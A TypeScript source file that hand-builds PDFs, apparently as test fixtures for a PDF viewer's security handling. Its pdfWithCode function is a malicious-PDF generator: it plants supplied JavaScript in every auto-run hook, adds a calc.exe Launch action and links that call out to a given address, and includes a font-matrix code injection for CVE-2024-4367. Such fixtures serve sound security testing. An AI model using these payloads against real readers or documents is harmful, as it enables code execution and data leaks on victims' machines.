/** Words at a place in points from the lower left; the letters are 12 points high and, in this face, 7.2 wide. */
export type Words = readonly [
  text: string,
  left: number,
  baseline: number,
  traits?: { size?: number; turned?: boolean },
];

/** A PDF of these pages, written by hand. `more` goes into the dictionaries of the catalogue and the font. */
export function pdfOf(
  pages: readonly (readonly Words[])[],
  info = '',
  pageExtra = '',
  more: { readonly catalogue?: string; readonly font?: string } = {},
): Uint8Array {
  const contents = pages.map((words) => words.map(shown).join('\n'));
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${more.catalogue ?? ''} >>`,
    `<< /Type /Pages /Count ${pages.length} /Kids [${pages.map((_, index) => `${5 + 2 * index} 0 R`).join(' ')}] >>`,
    `<< /Type /Font /Subtype /Type1 /BaseFont /Courier /Encoding /WinAnsiEncoding ${more.font ?? ''} >>`,
    `<< ${info} >>`,
    ...contents.flatMap((content, index) => [
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Resources << /Font << /F 3 0 R >> >> /Contents ${6 + 2 * index} 0 R ${pageExtra} >>`,
      `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    ]),
  ];
  let file = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const offset = file.length;
    file += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const trailer = `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R /Info 4 0 R >>`;
  return Buffer.from(
    `${file}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}${trailer}\nstartxref\n${file.length}\n%%EOF\n`,
    'latin1',
  );
}

function shown([text, left, baseline, { size = 12, turned = false } = {}]: Words): string {
  const matrix = turned ? '0 1 -1 0' : '1 0 0 1';
  return `BT /F ${size} Tf ${matrix} ${left} ${baseline} Tm (${text.replace(/[()\\]/g, '\\$&')}) Tj ET`;
}

/** A PDF that runs `code`, and asks `address` for something, in every way that one can, and says `words`. */
export function pdfWithCode(words: string, code: string, address: string): Uint8Array {
  const escaped = code.replace(/[()\\]/g, '\\$&');
  const script = `<< /S /JavaScript /JS (${escaped}) >>`;
  const catalogue = [
    `/OpenAction ${script}`,
    `/AA << /WC ${script} /WS ${script} >>`,
    `/Names << /JavaScript << /Names [(x) ${script}] >> >>`,
    `/AcroForm << /Fields [] /XFA [(template) (<template><script>${escaped}</script></template>)] >>`,
    `/URI << /Base (${address}/base) >>`,
  ];
  const page = [
    `/AA << /O ${script} /C << /S /Launch /F (calc.exe) >> >>`,
    `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI (${address}/pdf-uri) >> >>`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /SubmitForm /F (${address}/pdf-submit) >> >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (x) /Rect [0 0 9 9] /AA << /F ${script} /K ${script} >> >>]`,
  ];
  // CVE-2024-4367: the matrix of a font went unchecked into code that was compiled.
  const font = `/FontMatrix [0.001 0 0 0.001 0 (0\\); ${escaped}; //)] /Function << /FunctionType 4 /Domain [0 1] /Range [0 1] /Length 9 >>`;
  return pdfOf([[[words, 72, 700]]], '', page.join(' '), { catalogue: catalogue.join(' '), font });
}
